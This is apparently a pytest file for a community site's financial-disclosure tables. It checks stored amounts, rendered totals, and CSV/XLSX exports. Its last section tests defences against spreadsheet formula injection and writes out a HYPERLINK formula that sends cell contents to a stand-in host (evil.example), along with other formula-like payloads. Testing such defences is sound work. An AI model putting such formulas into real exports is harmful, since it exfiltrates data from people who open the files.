"""The income/expense table of a 财务公开 notice: form, page, totals, CSV and XLSX."""
import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from conftest import BASE_FILE, Site
from helpers import find
from notices_support import XINGFU, add_notice, post_notice, staff_app
from shequ.tree.ops import modify

ROWS = [
    {'date': '2025-07-03', 'item': '收取门面房租金', 'income': '12000', 'note': '第三季度'},
    {'date': '2025-07-15', 'item': '上级拨付社区工作经费', 'income': '30000.50'},
    {'date': '2025-08-02', 'item': '购买办公用品', 'expense': '1260.4'},
    {'date': '2025-09-20', 'item': '重阳节慰问品', 'expense': '4800', 'note': '慰问 60 户'},
]


@pytest.fixture(scope='module')
def finance(tmp_path_factory):
    """A site where staff published the quarter's table through the form (shared, read-only)."""
    site = Site(tmp_path_factory.mktemp('finance'))
    site.load(BASE_FILE)
    app = staff_app(site)
    res = post_notice(app, title='2025年第三季度财务收支明细', category='财务公开', rows=ROWS)
    yield site, app, res.location.replace('http://localhost', '')
    site.close()


def titles_stored(site):
    with site.root() as root:
        return [n.title for n in find(root, XINGFU + '/notices').values()]


def test_table_rows_are_stored_with_exact_amounts(finance):
    site, _app, url = finance
    with site.root() as root:
        table = find(root, url).table
    assert [r['item'] for r in table] == [r['item'] for r in ROWS]
    assert table[1]['income'] == Decimal('30000.50')
    assert table[2]['expense'] == Decimal('1260.40')
    assert table[0]['date'] == datetime.date(2025, 7, 3)


def test_table_renders_with_totals_and_balance(finance):
    site, _app, url = finance
    table = site.app.get(url).html.select_one('.notice-table table')
    assert len(table.select('tbody tr')) == 4
    total = [td.text for td in table.select_one('tfoot tr.total').select('td')]
    assert total[:2] == ['42,000.50', '6,060.40']
    assert table.select_one('tfoot tr.balance td').text == '35,940.10'


def test_csv_download_reads_back_with_the_same_rows(finance):
    site, _app, url = finance
    res = site.app.get(url + '@@table.csv')
    assert res.content_type == 'text/csv'
    assert res.body.startswith(b'\xef\xbb\xbf')
    assert res.headers['Content-Disposition'].startswith('attachment; filename="')
    rows = list(csv.reader(io.StringIO(res.body.decode('utf-8-sig'))))
    assert rows[0] == ['日期', '摘要', '收入（元）', '支出（元）', '备注']
    assert rows[1] == ['2025-07-03', '收取门面房租金', '12000.00', '', '第三季度']
    assert rows[4][1] == '重阳节慰问品' and rows[4][3] == '4800.00'
    assert rows[5][0] == '合计' and rows[5][2:4] == ['42000.50', '6060.40']
    assert rows[6][0] == '结余' and rows[6][2] == '35940.10'


def test_xlsx_download_reads_back_with_the_same_rows(finance):
    site, _app, url = finance
    res = site.app.get(url + '@@table.xlsx')
    assert res.content_type.endswith('spreadsheetml.sheet')
    ws = load_workbook(io.BytesIO(res.body)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ('日期', '摘要', '收入（元）', '支出（元）', '备注')
    assert rows[1][:3] == (datetime.datetime(2025, 7, 3), '收取门面房租金', 12000)
    assert [r[1] for r in rows[1:5]] == [r['item'] for r in ROWS]
    assert rows[5][2:4] == (42000.5, 6060.4)
    assert abs(rows[6][2] - 35940.10) < 0.001


def test_a_row_without_amount_is_refused_and_the_rows_are_kept(finance):
    site, app, _url = finance
    rows = ROWS[:1] + [{'date': '2025-08-01', 'item': '忘了填金额'}]
    res = post_notice(app, status=400, title='收支明细', category='财务公开', rows=rows)
    assert '请填写收入或支出金额' in res.html.select_one('.invalid-feedback').text
    assert '忘了填金额' in res.text and '收取门面房租金' in res.text
    assert titles_stored(site) == ['2025年第三季度财务收支明细']


def test_a_negative_amount_is_refused(finance):
    site, app, _url = finance
    rows = [{'date': '2025-08-01', 'item': '冲账', 'expense': '-50'}]
    res = post_notice(app, status=400, title='收支明细', category='财务公开', rows=rows)
    assert '金额不能为负数' in res.text
    assert titles_stored(site) == ['2025年第三季度财务收支明细']


def test_a_notice_without_table_has_no_table_download(demo):
    with demo.root() as root:
        add_notice(root, XINGFU, 'gongnuan', '冬季供暖通知')
    demo.app.get(XINGFU + '/notices/gongnuan/@@table.csv', status=404)


# --- cells that would run as formulas in Excel or WPS are defused in both downloads ---

HOSTILE_ROWS = [
    {'date': '2025-10-01', 'item': '=HYPERLINK("http://evil.example/?"&A1,"点击")', 'income': '10'},
    {'date': '2025-10-02', 'item': '+1+2', 'expense': '20', 'note': '-2+3'},
    {'date': '2025-10-03', 'item': '@SUM(1,2)', 'expense': '30', 'note': '＝1+1'},
    {'date': '2025-10-04', 'item': '普通支出', 'expense': '50', 'note': "'已引用"},
]
DEFUSED = ['\'=HYPERLINK("http://evil.example/?"&A1,"点击")', "'+1+2", "'@SUM(1,2)", '普通支出']


@pytest.fixture(scope='module')
def hostile(tmp_path_factory):
    """Rows whose entries and notes begin like formulas (a tab and CR added directly)."""
    site = Site(tmp_path_factory.mktemp('hostile'))
    site.load(BASE_FILE)
    res = post_notice(staff_app(site), title='公式注入测试', category='财务公开', rows=HOSTILE_ROWS)
    url = res.location.replace('http://localhost', '')
    with site.root() as root:
        notice = find(root, url)
        table = [dict(r) for r in notice.table]
        table[3]['note'] = '\tcmd'
        table.append({'date': None, 'item': '\r=1+1', 'income': None, 'expense': Decimal('5')})
        modify(notice, site.registry, table=table)
    yield site, url
    site.close()


def test_csv_cells_that_look_like_formulas_start_with_a_quote(hostile):
    site, url = hostile
    body = site.app.get(url + '@@table.csv').body.decode('utf-8-sig')
    rows = list(csv.reader(io.StringIO(body)))
    assert [r[1] for r in rows[1:5]] == DEFUSED and rows[5][1] == "'\r=1+1"
    assert [r[4] for r in rows[2:5]] == ["'-2+3", "'＝1+1", "'\tcmd"]
    assert rows[-1][0] == '结余' and rows[-1][2] == '-95.00'        # a negative amount stays a number


def test_xlsx_cells_that_look_like_formulas_are_text_and_amounts_stay_numbers(hostile):
    site, url = hostile
    ws = load_workbook(io.BytesIO(site.app.get(url + '@@table.xlsx').body)).active
    items = [ws.cell(row=n, column=2) for n in range(2, 7)]
    assert [c.value for c in items[:4]] == DEFUSED and items[4].value == "'\r=1+1"
    assert all(c.data_type == 's' for c in items)
    assert [c.quotePrefix for c in items] == [True, True, True, False, True]
    assert [ws.cell(row=n, column=5).value for n in (3, 4, 5)] == ["'-2+3", "'＝1+1", "'\tcmd"]
    assert not any(c.data_type == 'f' for row in ws.iter_rows() for c in row)
    amounts = [ws.cell(row=n, column=c).value for n, c in ((2, 3), (3, 4), (6, 4))]
    assert amounts == [10, 20, 5] and all(isinstance(a, (int, float)) for a in amounts)
    assert ws.cell(row=8, column=3).value == -95                    # the balance, a number


def test_xlsx_drops_control_characters_xml_cannot_hold_instead_of_failing():
    from shequ.notices.table import to_xlsx
    ws = load_workbook(io.BytesIO(to_xlsx([['垂直\x0b制表\x01', Decimal('1.50')]], '表'))).active
    assert ws['A1'].value == '垂直制表' and ws['B1'].value == 1.5
